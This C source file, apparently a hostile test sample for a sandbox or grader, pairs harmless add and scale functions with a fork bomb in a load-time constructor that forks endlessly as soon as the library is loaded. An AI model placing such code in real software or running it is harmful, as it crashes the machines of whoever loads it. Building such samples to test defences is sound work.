/* Hostile submission: a fork bomb in C, started as soon as the library is loaded. Every copy
   forks for ever; nothing but SIGKILL stops them. */
#include <unistd.h>

__attribute__((constructor)) static void bomb(void)
{
    for (;;)
        fork();
}

int add(int a, int b)
{
    return a + b;
}

double scale(const double *xs, int n, double factor)
{
    double sum = 0.0;
    for (int i = 0; i < n; i++)
        sum += xs[i] * factor;
    return sum;
}
